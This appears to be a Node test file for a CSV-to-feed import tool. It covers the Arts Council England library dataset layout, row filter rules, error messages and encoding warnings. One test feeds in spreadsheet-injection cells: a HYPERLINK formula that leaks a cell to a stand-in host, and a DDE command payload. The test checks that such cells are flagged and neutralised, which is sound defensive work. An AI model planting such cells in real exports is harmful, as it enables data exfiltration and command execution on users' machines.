import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Feed, Listing } from '@community-atlas/core';
import { main } from '../src/main.js';
import type { Io } from '../src/io.js';

const ENGLAND = fileURLToPath(new URL('../mappings/libraries-england.json', import.meta.url));
const realData = process.env.ATLAS_REAL_DATA;

function captureIo(cwd: string): Io & { stdout: string; stderr: string } {
  const io = {
    stdout: '', stderr: '', cwd,
    out(text: string) { io.stdout += text + '\n'; },
    err(text: string) { io.stderr += text + '\n'; },
  };
  return io;
}

async function run(files: Record<string, string | Uint8Array>, args: string[]): Promise<{ code: number; io: ReturnType<typeof captureIo>; feed?: Feed; dir: string }> {
  const dir = await mkdtemp(join(tmpdir(), 'atlas-sheet-'));
  for (const [name, content] of Object.entries(files)) await writeFile(join(dir, name), content);
  const io = captureIo(dir);
  const code = await main(['import', 'csv', ...args, '--today', '2026-11-01', '--out', 'feed.json'], io);
  let feed: Feed | undefined;
  try {
    feed = JSON.parse(await readFile(join(dir, 'feed.json'), 'utf8')) as Feed;
  } catch {
    feed = undefined;
  }
  return { code, io, feed, dir };
}

const names = (feed: Feed | undefined): string[] => (feed?.listings ?? []).map((l) => String(l.name));
const byName = (feed: Feed | undefined, name: string): Listing => {
  const found = feed?.listings.find((l) => l.name === name);
  assert.ok(found, `no listing ${name}`);
  return found;
};

/**
 * The Arts Council England "basic dataset" layout, as published: byte-order mark,
 * Windows line ends, hours per weekday in words. Made up rows, real header.
 */
const ACE_HEADER =
  'reporting,name,address1,address2,address3,authority,postcode,uprn,type,statutory_10,statutory_16,statutory_19,statutory_21,statutory_22,statutory_23,operation_16,operation_19,operation_21,operation_22,operation_23,closed,opened,operating_organisation,department,new_build_22,co_located,co_located_archives,co_located_artscentre,co_located_carehome_hostel,co_located_catering_bars_pub,co_located_civic,co_located_community,co_located_faithbuildings,co_located_health,co_located_hotel,co_located_industrial_business,co_located_library,co_located_museum,co_located_retail,co_located_schools_colleges,co_located_universities_highereducation,co_located_other,co_located_other_text,monday,tuesday,wednesday,thursday,friday,saturday,sunday,hours,staffed_hours,automated,email';
const ace = (cells: Record<string, string>): string => ACE_HEADER.split(',').map((h) => {
  const v = cells[h] ?? '';
  return /[",]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}).join(',');
const ACE_ROWS = [
  ace({ reporting: 'Northbridge', name: 'Riverside Library', address1: '1 Mill Lane', authority: 'Northbridge', postcode: 'NB1 2AA', type: 'Static Library', statutory_23: 'Yes', operation_23: 'LA', monday: 'All Day (continuous)', tuesday: 'All Day (continuous)', wednesday: 'AM Only', thursday: 'All Day (continuous)', friday: 'All Day (continuous)', saturday: 'AM & PM (with closure)', sunday: 'N/A Closed', email: 'riverside@example.org' }),
  ace({ reporting: 'Northbridge', name: 'Old Library', authority: 'Northbridge', postcode: 'NB1 3AA', type: 'Static Library', statutory_23: 'No', operation_23: 'Closed', closed: '2013' }),
  ace({ reporting: 'Northbridge', name: 'Eastfield Community Library', authority: 'Northbridge', postcode: 'NB3 1EF', type: 'Static Library', statutory_23: 'No', operation_23: 'CR', monday: 'PM Only', tuesday: 'Closed', wednesday: 'Closed', thursday: 'Closed', friday: 'Closed', saturday: 'AM Only', sunday: 'Closed' }),
  ace({ reporting: 'Northbridge', name: 'HMP Northbridge Library', authority: 'Northbridge', postcode: 'NB4 9ZZ', type: 'Prison Library', statutory_23: 'Yes', operation_23: 'LA' }),
  ace({ reporting: 'Southbridge', name: 'Southbridge Library', authority: 'Southbridge', postcode: 'SB1 1AA', type: 'Static Library', statutory_23: 'Yes', operation_23: 'LA', monday: 'All Day (continuous)' }),
];
const aceFile = `\uFEFF${[ACE_HEADER, ...ACE_ROWS].join('\r\n')}\r\n`;

test('the Arts Council England layout (BOM, Windows line ends, hours in words) imports with the shipped mapping', async () => {
  const { code, feed, io } = await run({ 'libraries.csv': aceFile }, ['libraries.csv', '--map', ENGLAND]);
  assert.equal(code, 0, io.stderr);
  assert.deepEqual(names(feed), ['Riverside Library', 'Eastfield Community Library', 'Southbridge Library']);
  const riverside = byName(feed, 'Riverside Library');
  assert.equal(riverside.summary, 'Public library run by Northbridge', '"What it is" says what it is');
  assert.deepEqual(riverside.categories, ['library', 'statutory-library']);
  assert.deepEqual(riverside.location, { name: 'Riverside Library', address: ['1 Mill Lane'], postcode: 'NB1 2AA' });
  assert.deepEqual(riverside.openingHours, {
    notes: 'Monday to Tuesday: All Day (continuous); Wednesday: AM Only; Thursday to Friday: All Day (continuous); Saturday: AM & PM (with closure); Sunday: Closed.',
  });
  assert.equal(riverside.contact?.email, 'riverside@example.org', 'the last column, before a CRLF, is read clean');
  assert.equal(byName(feed, 'Eastfield Community Library').summary, 'Community-run library, part of the library service of Northbridge');
  // Hours in words are notes, not a warning per cell.
  assert.doesNotMatch(io.stderr, /row \d+: opening hours/);
  assert.match(io.stderr, /Imported 3 listings, skipped 2 \(1 closed, 1 prison library, not open to the public\)/);
  assert.match(io.stderr, /3 with opening hours in words, kept as notes/);
  assert.match(io.stderr, /libraries\.csv: row 3: skipped: closed/, 'row numbers count the header as row 1, CRLF or not');
});

test('keep rules let a council keep only its own rows: equals, not-equals and one-of, on any column', async () => {
  const keep = async (rule: object): Promise<{ names: string[]; stderr: string; code: number }> => {
    const mapping = JSON.parse(await readFile(ENGLAND, 'utf8')) as Record<string, unknown>;
    mapping.keep = [rule];
    const { code, feed, io } = await run({ 'libraries.csv': aceFile, 'map.json': JSON.stringify(mapping) }, ['libraries.csv', '--map', 'map.json']);
    return { names: names(feed), stderr: io.stderr, code };
  };
  const own = await keep({ column: 'authority', when: 'equals', value: 'northbridge', reason: 'another council' });
  assert.equal(own.code, 0, 'rows left out by a rule are deliberate');
  assert.deepEqual(own.names, ['Riverside Library', 'Eastfield Community Library']);
  assert.match(own.stderr, /skipped 3 \(1 another council, 1 closed, 1 prison library, not open to the public\)|skipped 3 \(1 closed, 1 prison library, not open to the public, 1 another council\)/);
  const not = await keep({ column: 'reporting', when: 'not-equals', values: ['Southbridge'] });
  assert.deepEqual(not.names, ['Riverside Library', 'Eastfield Community Library']);
  assert.match(not.stderr, /row 6: skipped: reporting is "Southbridge"/, 'a default reason names the column and the value');
  const oneOf = await keep({ column: 'operation_23', when: 'one-of', values: ['CR', 'ICL'] });
  assert.deepEqual(oneOf.names, ['Eastfield Community Library']);
  assert.match(oneOf.stderr, /skipped: operation_23 is not "CR" or "ICL"/);
});

test('skip rules take not-equals and one-of too, and a bad rule is refused before anything is read', async () => {
  const csv = 'Name,Status\nA,open\nB,Closed\nC,removed\nD,\n';
  const { feed, io } = await run({ 'in.csv': csv, 'map.json': JSON.stringify({
    fields: { name: 'Name' },
    skip: [{ column: 'Status', when: 'one-of', values: ['closed', 'removed'], reason: 'gone' }, { column: 'Status', when: 'not-equals', value: 'open', reason: 'not open' }],
  }) }, ['in.csv', '--map', 'map.json']);
  assert.deepEqual(names(feed), ['A']);
  assert.match(io.stderr, /skipped 3 \(2 gone, 1 not open\)/);
  const bad = await run({ 'in.csv': csv, 'map.json': JSON.stringify({ fields: { name: 'Name' }, keep: [{ column: 'Status', when: 'is', value: 'open' }, { column: 'Status', when: 'one-of' }] }) }, ['in.csv', '--map', 'map.json']);
  assert.equal(bad.code, 2);
  assert.match(bad.io.stderr, /keep\[0\]\.when must be one of filled, empty, equals, not-equals, one-of, not "is"/);
  assert.match(bad.io.stderr, /keep\[1\] with when "one-of" needs a "value" or a "values" list/);
});

test('a mapping naming a missing column says which key and the nearest columns, in a few lines', async () => {
  const mapping = JSON.parse(await readFile(ENGLAND, 'utf8')) as { fields: Record<string, unknown> };
  mapping.fields.name = 'Library name';
  mapping.fields['contact.email'] = 'e-mail';
  const { code, io, feed } = await run({ 'libraries.csv': aceFile, 'map.json': JSON.stringify(mapping) }, ['libraries.csv', '--map', 'map.json']);
  assert.equal(code, 2);
  assert.equal(feed, undefined);
  assert.match(io.stderr, /fields\."name" names the column "Library name", which is not in the file\. Did you mean "name"\?/);
  assert.match(io.stderr, /fields\."contact\.email" names the column "e-mail", which is not in the file\. Did you mean "email"\?/);
  assert.doesNotMatch(io.stderr, /co_located_universities_highereducation/, 'the 54-column header is not repeated');
  assert.ok(io.stderr.trim().split('\n').length <= 4, io.stderr);
});

test('--report writes every row and what became of it; --quiet prints the summary only', async () => {
  const { code, io, dir } = await run({ 'libraries.csv': aceFile }, ['libraries.csv', '--map', ENGLAND, '--report', 'rows.csv', '--quiet']);
  assert.equal(code, 0);
  assert.doesNotMatch(io.stderr, /row \d+: skipped/, '--quiet: no line per row');
  assert.match(io.stderr, /^Imported 3 listings, skipped 2/m);
  const report = await readFile(join(dir, 'rows.csv'), 'utf8');
  const lines = report.trimEnd().split('\r\n');
  assert.equal(lines[0], 'row,outcome,id,name,reason or caveat');
  assert.deepEqual(lines.slice(1).map((l) => l.split(',').slice(0, 2).join(',')), ['2,imported', '3,skipped', '4,imported', '5,skipped', '6,imported']);
  assert.equal(lines[2], '3,skipped,,,closed');
  assert.equal(lines[4], '5,skipped,,,"prison library, not open to the public"');
});

test('without a description, "What it is" says what the thing is from its category, not just who runs it', async () => {
  const { feed } = await run({ 'in.csv': 'Name,Category,Organisation\nEastfield Hall,community-centre,Northbridge Borough Council\nNo category,,Northbridge Borough Council\n' }, ['in.csv']);
  assert.equal(byName(feed, 'Eastfield Hall').summary, 'Community centre run by Northbridge Borough Council');
  assert.equal(byName(feed, 'No category').summary, undefined, 'nothing made up when there is nothing to say');
});

test('cells that would run as spreadsheet formulas are flagged by row and column, and neutralised in the report', async () => {
  const csv = [
    'Name,Notes,Phone,Longitude',
    '=HYPERLINK("http://evil.example/?"&A1;"Click"),fine,+44 1632 960001,-1.5',
    'Riverside Hall,@SUM(1+1)*cmd|\' /C calc\'!A0,-,-2.25',
    'Eastfield Hall,"\t=1+2",01632 960002,',
    'Plain Hall,- see the notes,+cmd,',
  ].join('\n');
  const { code, io, feed, dir } = await run({ 'in.csv': csv }, ['in.csv', '--report', 'rows.csv']);
  assert.equal(code, 0, 'a warning, not a failure');
  assert.match(io.stderr, /in\.csv: row 2: column "Name" starts with "=" and would run as a formula in a spreadsheet/);
  assert.match(io.stderr, /in\.csv: row 3: column "Notes" starts with "@"/);
  assert.match(io.stderr, /in\.csv: row 4: column "Notes" starts with "="/, 'after a tab');
  assert.match(io.stderr, /in\.csv: row 5: column "Notes" starts with "-"/);
  assert.match(io.stderr, /in\.csv: row 5: column "Phone" starts with "\+"/);
  assert.doesNotMatch(io.stderr, /row 2: column "Phone"|column "Longitude"|row 3: column "Phone"/, 'numbers, phone numbers and a lone dash are not formulas');
  assert.equal(feed?.listings[0]?.name, '=HYPERLINK("http://evil.example/?"&A1;"Click")', 'the feed keeps the text as written (it is shown as text)');
  const report = await readFile(join(dir, 'rows.csv'), 'utf8');
  assert.match(report, /^2,imported,[^,]*,"'=HYPERLINK/m, 'the name is written with a leading apostrophe');
  for (const line of report.split('\r\n').slice(1)) {
    for (const cell of line.match(/(?<=^|,)("(?:[^"]|"")*"|[^,]*)/g) ?? []) {
      const value = cell.replace(/^"|"$/g, '').replace(/""/g, '"');
      assert.doesNotMatch(value, /^[=+@\t\r]|^-[^\d]/, `a report cell a spreadsheet would run: ${value}`);
    }
  }
});

test('repeated column names, NUL characters and bytes that are not UTF-8 each give a warning, not silence', async () => {
  const dup = await run({ 'in.csv': 'Name,Postcode,Name\nRiverside Hall,NB1 2AA,Other\n' }, ['in.csv']);
  assert.equal(dup.code, 0);
  assert.match(dup.io.stderr, /in\.csv: row 1: the header has "Name" twice \(columns A and C\); only column A is read/);
  assert.deepEqual(names(dup.feed), ['Riverside Hall']);

  const nul = await run({ 'in.csv': 'Name,Postcode\nRiver\0side Hall,NB1 2AA\n' }, ['in.csv']);
  assert.match(nul.io.stderr, /in\.csv: row 2: column "Name" has a NUL character/);
  assert.deepEqual(names(nul.feed), ['Riverside Hall']);

  // "Café" and "£3" saved by Excel as Windows-1252: é is byte E9, £ is A3.
  const bytes = Uint8Array.from([...Buffer.from('Name,Summary\nRiverside Hall,Tea\nCaf'), 0xe9, ...Buffer.from(' Club,Entry '), 0xa3, ...Buffer.from('3\n')]);
  const latin = await run({ 'in.csv': bytes }, ['in.csv']);
  assert.match(latin.io.stderr, /in\.csv: row 3: the file has bytes that are not UTF-8 \(first on this row\), so it was read as Windows-1252/);
  assert.deepEqual(names(latin.feed), ['Riverside Hall', 'Café Club']);
  assert.equal(latin.feed?.listings[1]?.summary, 'Entry £3');
});

test('the real Arts Council England sample imports with the shipped mapping', { skip: !realData && 'ATLAS_REAL_DATA is not set' }, async () => {
  const file = join(realData ?? '', 'libraries', 'libraries_england_2023_sample.csv');
  const dir = await mkdtemp(join(tmpdir(), 'atlas-ace-'));
  const io = captureIo(dir);
  assert.equal(await main(['import', 'csv', file, '--map', ENGLAND, '--today', '2026-11-01', '--out', 'feed.json'], io), 0, io.stderr);
  assert.match(io.stderr, /Imported 19 listings, skipped 10 \(8 closed, 2 prison library, not open to the public\)/);
  assert.match(io.stderr, /19 with opening hours in words, kept as notes/);
  const feed = JSON.parse(await readFile(join(dir, 'feed.json'), 'utf8')) as Feed;
  assert.ok(feed.listings.every((l) => typeof l.summary === 'string' && / (run by|commissioned by|service of|area of) /.test(l.summary)));
  assert.ok(feed.listings.every((l) => typeof l.openingHours?.notes === 'string'));
  const validate = captureIo(dir);
  assert.equal(await main(['validate', 'feed.json'], validate), 0, validate.stderr);
});
